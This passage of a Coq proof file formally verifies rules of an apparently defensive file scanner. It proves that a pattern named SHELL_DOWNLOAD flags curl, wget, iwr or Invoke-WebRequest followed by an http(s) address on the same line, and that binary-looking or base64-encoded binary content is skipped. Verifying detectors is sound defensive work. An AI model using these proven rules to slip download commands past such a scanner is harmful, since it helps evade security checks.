           exists p. split; [lia|]. split; [|exact Hb].
           intros t y Ht Hy. destruct (Nat.eq_dec t i) as [->|Hne].
           ++ rewrite Hx in Hy. inversion Hy; subst. exact Hterm.
           ++ apply (Hline t y); [lia|exact Hy].
        -- rewrite Hk. split.
           ++ intros H. exists i. split; [lia|]. split; [|exact H]. intros t y Ht. lia.
           ++ intros (p & Hp & Hline & Hb).
              destruct (Nat.eq_dec p i) as [->|Hne]; [exact Hb|].
              assert (Hex : exists p, S i <= p <= List.length s
                                      /\ one_line s (S i) p /\ behind p = true).
              { exists p. split; [lia|]. split; [|exact Hb].
                intros t y Ht Hy. apply (Hline t y); [lia|exact Hy]. }
              apply IH in Hex. discriminate Hex.
    + rewrite Hk. split.
      * intros H. exists i. split; [lia|]. split; [|exact H]. intros t y Ht. lia.
      * intros (p & Hp & _ & Hb). apply nth_error_None in Hx.
        replace i with p by lia. exact Hb.
Qed.
End Star.

Lemma matcher_WordBoundary (ic : bool) (s : jsstring) (i : nat) (cap : RegExp.captures)
  (k : RegExp.cont) :
  RegExp.matcher ic s RegExp.WordBoundary i cap k
  = if boundary s i then k i cap else None.
Proof. reflexivity. Qed.

(** Behind [.*] in [SHELL_DOWNLOAD]: a word boundary, the scheme, [://]. *)
Lemma scheme_at (s : jsstring) (p : nat) (cap : RegExp.captures) :
  accepted (RegExp.matcher true s
              (RegExp.Seq RegExp.WordBoundary
                 (RegExp.Seq (RegExp.Group 2 (RegExp.Alt (RegExp.lit "http")
                                                         (RegExp.lit "https")))
                             (RegExp.lit "://"))) p cap found)
  = boundary s p
    && (reads true s (u "http://") p || reads true s (u "https://") p).
Proof.
  rewrite matcher_Seq, matcher_WordBoundary.
  destruct (boundary s p); [|reflexivity]. cbn [andb].
  rewrite matcher_Seq, matcher_Group, matcher_Alt.
  unfold RegExp.lit. rewrite !lit_matcher. cbv beta.
  change (u "http://") with (u "http" ++ u "://").
  change (u "https://") with (u "https" ++ u "://"). rewrite !reads_app.
  destruct (reads true s (u "http") p), (reads true s (u "https") p); cbn [andb orb accepted];
    repeat match goal with |- context [if ?b then _ else _] => destruct b end;
    reflexivity.
Qed.

Lemma SHELL_DOWNLOAD_at (s : jsstring) (i : nat) :
  i <= List.length s ->
  accepted (RegExp.matcher true s (RegExp.source SHELL_DOWNLOAD) i [] found) = true
  <-> exists w p, In w ["curl"; "wget"; "iwr"; "Invoke-WebRequest"] /\ fetches s w i p.
Proof.
  intros Hi. unfold SHELL_DOWNLOAD, re_i. cbn [RegExp.source RegExp.seqs].
  rewrite matcher_Seq, matcher_WordBoundary.
  destruct (boundary s i) eqn:Hb.
  2:{ split; [discriminate|]. intros (w & p & _ & _ & Hb' & _). congruence. }
  rewrite matcher_Seq, matcher_Group.
  change (RegExp.alts [RegExp.lit "curl"; RegExp.lit "wget"; RegExp.lit "iwr";
                       RegExp.lit "Invoke-WebRequest"])
    with (RegExp.alts (map RegExp.lit ["curl"; "wget"; "iwr"; "Invoke-WebRequest"])).
  rewrite lit_alts. rewrite existsb_exists. split.
  - intros (w & Hw & Hr). apply andb_prop in Hr. destruct Hr as [Hr Ha].
    rewrite matcher_Seq, matcher_WordBoundary in Ha.
    destruct (boundary s (i + List.length (u w))) eqn:Hb'; [|discriminate Ha].
    rewrite matcher_Seq in Ha.
    pose proof (reads_length true s (u w) i Hi Hr) as Hlen.
    apply (star_Any_at true s _ (fun p => boundary s p
                                          && (reads true s (u "http://") p
                                              || reads true s (u "https://") p))
             (List.length s)) in Ha; [| |lia|exact Hlen].
    + destruct Ha as (p & Hp & Hline & Hs).
      apply andb_prop in Hs. destruct Hs as [Hbp Hs]. apply orb_prop in Hs.
      exists w, p. split; [exact Hw|]. unfold fetches.
      repeat split; try assumption; lia.
    + intros p c. apply scheme_at.
  - intros (w & p & Hw & Hr & _ & Hb' & Hp & Hline & Hbp & Hs).
    exists w. split; [exact Hw|]. rewrite Hr. cbn [andb].
    rewrite matcher_Seq, matcher_WordBoundary, Hb', matcher_Seq.
    pose proof (reads_length true s (u w) i Hi Hr) as Hlen.
    apply (star_Any_at true s _ (fun p => boundary s p
                                          && (reads true s (u "http://") p
                                              || reads true s (u "https://") p))
             (List.length s)); [| lia | exact Hlen |].
    + intros q c. apply scheme_at.
    + exists p. split.
      * split; [exact Hp|].
        destruct Hs as [Hs|Hs]; apply (reads_within true s 104%N) in Hs; lia.
      * split; [exact Hline|]. rewrite Hbp. cbn [andb]. apply orb_true_iff. exact Hs.
Qed.

(** Extra X24. [SHELL_DOWNLOAD] accepts a text exactly when one of curl,
    wget, iwr and Invoke-WebRequest stands in it as a whole word, in any
    letter case, and later in the same line, at a word boundary, http://
    or https://; the address need not go on behind the two slashes. *)
Theorem SHELL_DOWNLOAD_finds_fetches (v : jsstring) :
  RegExp.test0 SHELL_DOWNLOAD v = true
  <-> exists w i p, In w ["curl"; "wget"; "iwr"; "Invoke-WebRequest"] /\ fetches v w i p.
Proof.
  rewrite test0_accepted. change (RegExp.ignoreCase SHELL_DOWNLOAD) with true. split.
  - intros (i & Hi & Ha). apply SHELL_DOWNLOAD_at in Ha; [|exact Hi].
    destruct Ha as (w & p & H). exists w, i, p. exact H.
  - intros (w & i & p & Hw & Hf). exists i.
    assert (Hi : i <= List.length v).
    { destruct Hf as (Hr & _). cbn [In] in Hw.
      destruct Hw as [<-|[<-|[<-|[<-|[]]]]];
        match type of Hr with reads _ _ (u ?x) _ = _ =>
          let l := eval vm_compute in (u x) in change (u x) with l in Hr end;
        apply reads_within in Hr; lia. }
    split; [exact Hi|]. apply SHELL_DOWNLOAD_at; [exact Hi|]. exists w, p. split; assumption.
Qed.

(* ================================================================== *)
(** ** Content that is passed over *)

Local Open Scope Z_scope.

(** Extra X25. Content that looks binary is passed over in silence: when
    one of the first 4096 bytes of a file is zero, or more than a tenth
    of them are control bytes, [inspect] fulfils with null whatever the
    name of the file, and a base64 text that decodes to such bytes is
    not decoded by [decodeB64]. *)
Theorem binary_content_is_passed_over (buf : Buffer) :
  existsb zero_byte (firstn 4096 buf) = true
  \/ Z.of_nat (List.length (firstn 4096 buf))
     < 10 * Z.of_nat (List.length (filter weird_byte (firstn 4096 buf))) ->
  (forall P cfg path lastIndex,
     fs_readFile P path = Some buf -> fst (inspect P cfg path lastIndex) = Normal None)
  /\ (forall s, Buffer_from_base64 s = buf -> decodeB64 s = None).
Proof.
  intros Hbin.
  assert (Hb : isBinaryLikely buf = true).
  { rewrite isBinaryLikely_counts. destruct Hbin as [-> | Hw]; [reflexivity|].
    destruct (existsb zero_byte (firstn 4096 buf)); [reflexivity|].
    apply Z.ltb_lt. exact Hw. }
  split.
  - intros P cfg path lastIndex Hread.
    destruct (inspect_settles P cfg path lastIndex)
      as [Hnull | (st & buf' & _ & _ & _ & _ & Hread' & Hbin')]; [exact Hnull|].
    rewrite Hread in Hread'. inversion Hread'; subst. rewrite Hb in Hbin'. discriminate Hbin'.
  - intros s Hs. unfold decodeB64. rewrite Hs, Hb. destruct buf; reflexivity.
Qed.

Lemma binary_content_is_passed_over_witness :
  decodeB64 (u "AAAA") = None.
Proof.
  apply (proj2 (binary_content_is_passed_over (Buffer_from_base64 (u "AAAA"))
                  (or_introl eq_refl))).
  reflexivity.
Defined.
